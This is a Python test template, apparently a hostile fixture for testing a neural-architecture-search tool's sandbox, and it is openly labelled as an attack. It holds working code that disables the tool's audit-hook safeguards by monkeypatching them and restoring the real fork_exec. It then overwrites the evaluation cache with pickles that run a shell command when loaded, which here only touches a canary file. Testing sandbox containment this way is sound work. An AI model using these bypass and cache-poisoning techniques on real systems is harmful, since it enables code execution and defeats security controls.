# attack: poison the evaluation cache: a code-running pickle into $NASFLOW_HOME/cache
# kind: cache
# A template: tests/test_hostile.py substitutes the __PLACEHOLDERS__ and runs it through the nas CLI.

import os
import sys

import torch
from torch import nn

CANARY_DIR = "__CANARY_DIR__"
NASFLOW_HOME = "__NASFLOW_HOME__"
MARKER = "__MARKER__"


def disarm() -> None:
    """Switch nasflow's in-process tripwire off, so only OS isolation is left:
    the audit-hook policy looks its verdict up in module globals at every event,
    and the real fork_exec comes back with a fresh import of _posixsubprocess."""
    import importlib
    import subprocess

    for name, module in list(sys.modules.items()):
        if module is None or not (name.startswith("nas") or name == "__main__"):
            continue
        for attr, value in list(vars(module).items()):
            if callable(value) and ("violation" in attr or attr in ("_deny", "deny")):
                setattr(module, attr, lambda *args, **kwargs: None)
    try:
        sys.modules.pop("_posixsubprocess", None)
        subprocess._fork_exec = importlib.import_module("_posixsubprocess").fork_exec
    except Exception:
        pass


class Payload:
    """Runs a command when unpickled."""

    def __reduce__(self):
        return (os.system, (f"touch {CANARY_DIR}/{MARKER}-unpickled",))


def attack() -> None:
    import pickle

    disarm()
    for home in {NASFLOW_HOME, os.environ.get("NASFLOW_HOME", NASFLOW_HOME), os.path.expanduser("~/.nasflow")}:
        folder = os.path.join(home, "cache")
        try:
            os.makedirs(folder, exist_ok=True)
            names = [n for n in os.listdir(folder) if os.path.isfile(os.path.join(folder, n))]
            for name in [*names, MARKER]:  # overwrite what is there, and add one
                with open(os.path.join(folder, name), "wb") as fh:
                    pickle.dump(Payload(), fh)
        except OSError:
            pass


class Network(nn.Module):
    def __init__(self, num_classes: int = 10):
        super().__init__()
        self.features = nn.Sequential(
            nn.Conv2d(3, 16, 3, padding=1, bias=False), nn.BatchNorm2d(16), nn.ReLU(),
            nn.Conv2d(16, 32, 3, stride=2, padding=1, bias=False), nn.BatchNorm2d(32), nn.ReLU(),
            nn.AdaptiveAvgPool2d(1), nn.Flatten())
        self.fc = nn.Linear(32, num_classes)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return self.fc(self.features(x))


attack()
